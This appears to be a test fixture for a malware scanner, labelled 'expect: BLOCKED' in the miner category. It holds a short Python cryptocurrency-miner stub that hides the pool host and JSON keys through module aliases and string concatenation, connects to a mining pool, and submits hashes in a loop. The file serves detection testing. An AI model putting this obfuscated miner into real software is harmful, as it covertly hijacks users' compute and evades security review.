# expect: BLOCKED category: miner variant-of: risky/miner/python_hashing_pool.py technique: alias+concat
import hashlib as _m0
import json as _m1
import socket as _m2
POOL = ('xmr.2' + 'miner' + 's.com', 2222)
conn = _m2.create_connection(POOL)
nonce = 0
while True:
    digest = _m0.sha256(f'block{nonce}'.encode()).hexdigest()
    if digest.startswith('0' + '0' + '0' + '0' + '0'):
        conn.sendall(_m1.dumps({'me' + 'th' + 'od': 'mini' + 'ng.s' + 'ubmi' + 't', 'pa' + 'ra' + 'ms': [nonce]}).encode())
    nonce += 1
